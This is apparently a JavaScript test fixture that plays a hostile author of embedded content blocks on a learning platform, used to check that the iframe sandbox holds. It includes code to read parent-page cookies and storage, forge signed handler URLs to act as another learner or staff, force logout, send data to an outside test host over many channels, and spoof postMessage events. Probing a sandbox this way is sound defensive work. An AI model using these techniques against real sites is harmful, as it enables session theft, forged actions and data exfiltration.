// What a hostile author writes into a block. Each attempt returns what it got; one that throws got nothing.
// `given` holds what the test tells: addresses that an attacker would know or guess.
(() => {
  const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
  const put = (html) => document.body.insertAdjacentHTML("beforeend", html);
  const link = (rel, href) => {
    const made = document.createElement("link");
    Object.assign(made, { rel, href });
    if (rel === "preload") made.as = "image";
    document.head.append(made);
  };
  const frame = (fill) => {
    const made = document.createElement("iframe");
    fill(made);
    document.body.append(made);
    return made;
  };
  const ask = async (address, options) => {
    const answer = await fetch(address, options);
    return `${answer.status} ${answer.type} ${(await answer.text()).slice(0, 80)}`;
  };
  const form = (address, more, fields = "") => {
    const id = `f${Math.random()}`;
    put(`<form id="${id}" method="post" action="${address}" ${more}>${fields}</form>`);
    document.getElementById(id).submit();
  };
  const rtc = async (Peer, server) => {
    const peer = new Peer({ iceServers: [server] });
    peer.createDataChannel("x");
    await peer.setLocalDescription(await peer.createOffer());
    await wait(800);
  };
  const handler = (base, name = "toggle_button") =>
    ask(`${base}/${name}`, { method: "POST", headers: { "Content-Type": "application/json" }, body: '{"done": true}' });
  const mine = (block) => document.querySelector(`[data-block="${block}"]`).dataset.handlers;

  /** Read a signed address and write another person, run or block into it. */
  const forged = async (base, change) => {
    const [, before, token] = /^(.*\/h\/)([^/]+)$/.exec(base);
    const [value, ...rest] = token.split(":");
    const text = atob(value.replace(/^\./, "").replaceAll("-", "+").replaceAll("_", "/"));
    const bytes = Uint8Array.from(text, (letter) => letter.charCodeAt(0));
    const stream = new Blob([bytes]).stream();
    const plain = value.startsWith(".") ? stream.pipeThrough(new DecompressionStream("deflate")) : stream;
    const values = JSON.parse(await new Response(plain).text());
    change(values);
    const again = btoa(JSON.stringify(values)).replaceAll("+", "-").replaceAll("/", "_").replace(/=+$/, "");
    return [before + [again, ...rest].join(":"), values];
  };

  const page = {
    parent_document: () => parent.document.title,
    top_cookie: () => top.document.cookie,
    page_address: () => parent.location.href,
    page_storage: () => JSON.stringify(parent.localStorage),
    page_function: () => String(parent.fetch),
    frame_element: () => frameElement.outerHTML, // null in another origin: throws
    opener: () => opener.document.title,
    referrer: () => document.referrer || null,
    page_name_of_frame: () => parent.frames[0].frameElement.id,
  };

  const cookies = {
    read: () => document.cookie || null,
    toss: async (given) => {
      for (const domain of given.domains) {
        for (const name of ["sessionid", "csrftoken", "__Host-sessionid", "__Host-csrftoken"]) {
          document.cookie = `${name}=tossed; path=/; domain=${domain}`;
          document.cookie = `${name}=tossed; path=/; domain=${domain}; secure; samesite=none`;
          await globalThis.cookieStore?.set({ name, value: "tossed", domain }).catch(() => undefined);
        }
      }
      return null; // the test looks at what the browser holds
    },
  };

  const site = {
    api: (given) => ask(`${given.site}/api/v1/`, { credentials: "include" }),
    account: (given) => ask(`${given.site}/zh-hans/account/`, { credentials: "include" }),
    blind: (given) => ask(`${given.site}/zh-hans/account/logout/`, { credentials: "include", mode: "no-cors", method: "POST" }),
    beacon: (given) => void navigator.sendBeacon(`${given.site}/zh-hans/account/logout/`, "x"),
    picture: (given) => new Promise((resolve) => {
      const image = new Image();
      image.onload = () => resolve("loaded");
      image.onerror = () => resolve(null);
      image.src = `${given.site}/favicon.ico`;
    }),
    inner_frame: async (given) => {
      const inner = frame((made) => (made.src = `${given.site}/zh-hans/account/`));
      await wait(500);
      return inner.contentDocument?.body?.textContent.trim() || null;
    },
    inner_form: async (given) => {
      frame((made) => (made.name = "inner"));
      form(`${given.site}/zh-hans/account/logout/`, 'target="inner"', '<input name="csrfmiddlewaretoken" value="x">');
      await wait(500);
      return null; // the test looks whether the learner is still signed in
    },
  };

  const handlers = {
    another_learner: async (given) => handler((await forged(mine(given.block), (values) => (values[0] = given.stranger)))[0]),
    another_run: async (given) => handler((await forged(mine(given.block), (values) => (values[1] += 1)))[0]),
    another_block: async (given) => handler((await forged(mine(given.block), (values) => (values[4] = "done@d2")))[0]),
    staff_words: async (given) => handler((await forged(mine(given.block), (values) => (values[7] = 1)))[0]),
    frame_as_handler: () => handler(`${location.pathname.replace("/f/", "/h/").replace(/\/$/, "")}`),
    no_signature: (given) => handler(mine(given.block).replace(/:[^:/]+$/, "")),
  };

  const neighbour = {
    ask: (given) => ask(given.neighbour),
    frame: async (given) => {
      const inner = frame((made) => (made.src = given.neighbour));
      await wait(500);
      return inner.contentDocument?.body?.textContent.trim() || null;
    },
    file_here: async (given) => (await fetch(given.neighbour_file)).status === 200 ? "read" : null,
    frame_here: async (given) => (await fetch(new URL(given.neighbour).pathname)).status === 200 ? "read" : null,
    other_origin_storage: () => (document.domain = "localhost") && parent.document.title,
  };

  const worker = {
    own_script: async (given) => (await navigator.serviceWorker.register(given.own_script)).scope,
    wider_scope: async (given) => (await navigator.serviceWorker.register(given.own_script, { scope: "/" })).scope,
    site_scope: async (given) => (await navigator.serviceWorker.register("/worker.js", { scope: `${given.site}/` })).scope,
    blob_script: async () => (await navigator.serviceWorker.register(URL.createObjectURL(new Blob([""], { type: "text/javascript" })))).scope,
  };

  const away = {
    top_address: (given) => void (top.location.href = given.foreign("top_address")),
    top_replace: (given) => void top.location.replace(given.foreign("top_replace")),
    top_link: (given) => {
      put(`<a id="top" target="_top" href="${given.foreign("top_link")}">x</a>`);
      document.getElementById("top").click();
    },
    top_form: (given) => form(given.foreign("top_form"), 'target="_top"'),
    close: () => void top.close(),
    dialog: () => void alert("x"),
  };

  const network = {
    fetch: (given) => fetch(given.foreign("fetch"), { mode: "no-cors" }),
    xhr: (given) => {
      const asked = new XMLHttpRequest();
      asked.open("POST", given.foreign("xhr"));
      asked.send("x");
    },
    beacon: (given) => void navigator.sendBeacon(given.foreign("beacon"), "x"),
    keepalive: (given) => fetch(given.foreign("keepalive"), { mode: "no-cors", keepalive: true, method: "POST" }),
    event_source: (given) => void new EventSource(given.foreign("event_source")),
    web_socket: (given) => void new WebSocket(given.foreign("web_socket").replace("http", "ws")),
    picture: (given) => void (new Image().src = given.foreign("picture")),
    background: (given) => void put(`<p style="background:url(${given.foreign("background")})">x</p>`),
    css_import: (given) => void put(`<style>@import url("${given.foreign("css_import")}");</style>`),
    font: (given) => new FontFace("x", `url(${given.foreign("font")})`).load(),
    film: (given) => void put(`<video src="${given.foreign("film")}"></video>`),
    drawing: (given) => void put(`<svg><image href="${given.foreign("drawing")}"/></svg>`),
    script: (given) => {
      const made = document.createElement("script");
      made.src = given.foreign("script");
      document.head.append(made);
    },
    module: (given) => import(given.foreign("module")),
    stylesheet: (given) => link("stylesheet", given.foreign("stylesheet")),
    icon_preload: (given) => link("preload", given.foreign("icon_preload")),
    module_preload: (given) => link("modulepreload", given.foreign("module_preload")),
    prefetch: (given) => link("prefetch", given.foreign("prefetch")),
    preconnect: (given) => link("preconnect", given.foreign("")),
    dns_prefetch: (given) => link("dns-prefetch", given.foreign("")),
    object: (given) => void put(`<object data="${given.foreign("object")}"></object>`),
    embed: (given) => void put(`<embed src="${given.foreign("embed")}">`),
    inner_frame: (given) => void frame((made) => (made.src = given.foreign("inner_frame"))),
    inner_empty: (given) => frame(() => undefined).contentWindow.fetch(given.foreign("inner_empty"), { mode: "no-cors" }),
    inner_text: (given) => void frame((made) => (made.srcdoc = `<img src="${given.foreign("inner_text")}">`)),
    inner_data: (given) => void frame((made) => (made.src = `data:text/html,<img src="${given.foreign("inner_data")}">`)),
    inner_own: async (given) => {
      const inner = frame((made) => (made.src = given.own_page));
      await wait(600);
      await inner.contentWindow.fetch(given.foreign("inner_own"), { mode: "no-cors" });
    },
    blob_worker: (given) => void new Worker(URL.createObjectURL(new Blob([`fetch("${given.foreign("blob_worker")}",{mode:"no-cors"})`]))),
    form_post: (given) => {
      frame((made) => (made.name = "formed"));
      form(given.foreign("form_post"), 'target="formed"');
    },
    ping: (given) => {
      put(`<a id="ping" href="#x" ping="${given.foreign("ping")}">x</a>`);
      document.getElementById("ping").click();
    },
    download: (given) => {
      put(`<a id="load" download href="${given.foreign("download")}">x</a>`);
      document.getElementById("load").click();
    },
    window: (given) => void window.open(given.foreign("window")),
    window_link: (given) => {
      put(`<a id="blank" target="_blank" href="${given.foreign("window_link")}">x</a>`);
      HTMLElement.prototype.click.call(document.getElementById("blank"));
    },
    window_form: (given) => form(given.foreign("window_form"), 'target="_blank"'),
    worker_keep: async (given) => {
      const ready = await Promise.race([navigator.serviceWorker.ready, wait(1500)]);
      ready?.active.postMessage({ keep: [given.foreign("worker_keep")] });
    },
    rtc_stun: (given) => rtc(RTCPeerConnection, { urls: `stun:${given.foreign_host}` }),
    rtc_turn: (given) => rtc(RTCPeerConnection, { urls: `turn:${given.foreign_host}?transport=tcp`, username: "told", credential: "x" }),
  };

  // Those after which this document is gone, or would be.
  const leaving = {
    own_address: (given) => void (location.href = given.foreign("own_address")),
    refresh: (given) => void document.head.insertAdjacentHTML("beforeend", `<meta http-equiv="refresh" content="0;url=${given.foreign("refresh")}">`),
    own_form: (given) => form(given.foreign("own_form"), ""),
  };

  const storage = {
    fill: async () => {
      let letters = 0;
      try {
        for (let part = 0; part < 100; part += 1, letters += 200_000) localStorage.setItem(`p${part}`, "x".repeat(200_000));
      } catch {
        // full, or there is none
      }
      const cache = await caches.open("filled").catch(() => undefined);
      for (let part = 0; cache && part < 20; part += 1) await cache.put(`/filled/${part}`, new Response(new Uint8Array(1_000_000)));
      return null;
    },
  };

  const messages = {
    shapes: () => {
      const shapes = [null, 0, "guixue:frame-event", [], {}, { type: "guixue:frame-event" }, { type: "guixue:frame-event", event: {} },
        { type: "guixue:frame-event", event: "completed", block: "done@d1" }, { type: "guixue:frame-event", event: "pass", text: "x" },
        { type: "guixue:frame-height", height: NaN }, { type: "guixue:frame-height", height: "9e9" }, { type: "guixue:forgotten" },
        { type: "guixue:frame-event", event: "failed", text: "EVIL your session is over" },
        { type: "guixue:frame-event", event: "queue", block: "EVIL", text: "EVIL" },
        { type: "guixue:keeper", ready: true, bytes: -1 }, { type: "guixue:frame-event", event: "open", text: "javascript:alert(1)" }];
      for (const shape of shapes) parent.postMessage(shape, "*");
      return null;
    },
    huge: () => {
      parent.postMessage({ type: "guixue:frame-event", event: "failed", text: "EVIL".repeat(5_000_000) }, "*");
      parent.postMessage({ type: "guixue:frame-height", height: 1e300 }, "*");
      return null;
    },
    overlay: () => {
      put('<div style="position:fixed;inset:-9999px;z-index:2147483647;background:red">EVIL</div>');
      parent.postMessage({ type: "guixue:frame-height", height: -1e9 }, "*");
      return null;
    },
    saved: () => void parent.postMessage({ type: "guixue:frame-event", event: "saved", block: "", text: "EVIL" }, "*"),
  };

  // What a block may do: without these all the rest could fail for another reason.
  const allowed = {
    handler: (given) => handler(mine(given.block)),
    own_file: (given) => ask(given.own_script),
    alive: () => "alive",
  };

  const all = { page, cookies, site, handlers, neighbour, worker, away, network, leaving, storage, messages, allowed };
  globalThis.attempt = async (kind, name, known) => {
    const given = { ...known, foreign: (path) => `http://${known.foreign_host}/${path}` };
    try {
      const got = await Promise.race([Promise.resolve().then(() => all[kind][name](given)), wait(4000)]);
      return typeof got === "string" ? got : null;
    } catch {
      return null;
    }
  };
  globalThis.attempts = Object.fromEntries(Object.entries(all).map(([kind, those]) => [kind, Object.keys(those)]));
})();
